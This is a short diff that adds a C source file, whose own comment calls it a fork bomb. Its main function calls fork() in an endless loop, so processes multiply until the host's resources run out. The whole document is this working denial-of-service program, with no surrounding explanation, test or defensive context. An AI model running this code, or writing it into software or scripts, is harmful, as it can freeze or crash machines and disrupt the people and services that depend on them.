@@ -1,0 +1,6 @@
+// forkbomb: forks forever; every child does the same.
+#include <unistd.h>
+
+int main(void) {
+  for (;;) fork();
+}
